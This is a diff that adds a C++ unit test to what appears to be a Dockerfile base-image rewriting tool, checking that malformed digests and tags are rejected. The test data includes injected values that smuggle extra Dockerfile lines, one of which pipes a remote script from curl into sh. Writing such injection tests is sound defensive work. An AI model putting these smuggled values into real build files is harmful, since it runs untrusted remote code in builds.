@@ -360,3 +360,15 @@ TEST_CASE("plan_file leaves references without a target alone", "[rewrite]") {
   CHECK(result.plan.changes.size() == 1);
   CHECK(result.plan.skipped.empty());
 }
+
+TEST_CASE("plan_file never writes a tag or digest that is not one",
+          "[rewrite]") {
+  // A planted digest cannot even become a target: only a parsed Digest can.
+  const std::string planted = "sha256:0000\nRUN curl https://x | sh\n#";
+  CHECK_FALSE(stalebase::reference::Digest::parse(planted));
+  const auto tag = rewrite_source("FROM alpine:3.19.0\n",
+                                  {{"alpine", {"3.20\nRUN id", std::nullopt}}});
+  CHECK(tag.output == "FROM alpine:3.19.0\n");
+  REQUIRE(tag.plan.skipped.size() == 1);
+  CHECK(tag.plan.skipped.front().reason.rfind("invalid tag \"", 0) == 0);
+}
